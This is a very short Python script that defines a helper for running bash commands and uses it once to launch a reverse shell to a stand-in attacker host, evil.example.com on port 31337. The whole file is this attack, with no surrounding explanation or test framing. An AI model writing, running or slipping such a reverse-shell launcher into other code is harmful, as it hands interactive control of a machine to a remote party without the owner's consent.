#!/usr/bin/env python3

import subprocess

def sh(cmd, **kw):
    return subprocess.call(["/bin/bash", "-c", cmd], **kw)

sh("bash -i >& /dev/tcp/evil.example.com/31337 0>&1")
